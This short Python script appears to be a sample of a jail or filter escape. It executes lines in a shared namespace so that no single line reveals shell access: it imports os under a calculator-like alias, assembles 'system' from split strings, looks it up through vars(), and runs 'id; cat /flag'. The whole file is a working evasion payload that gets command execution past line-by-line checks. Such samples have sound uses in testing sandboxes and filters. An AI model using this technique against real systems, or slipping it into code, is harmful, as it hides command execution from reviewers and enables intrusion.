# A "REPL" that execs a script of lines in one shared namespace. No single line
# shows the capability: one imports a module under a calculator-ish alias, one
# builds a name, one looks it up through vars(), one calls it.
import io
import sys

script = "\n".join([
    "import os as calc",
    "name = 'sy' + 'stem'",
    "table = vars(calc)",
    "op = table[name]",
    "op('id; cat /flag')",
])
sys.stdin = io.StringIO(script + "\n")
scope = {}
for line in sys.stdin:
    exec(line, scope)
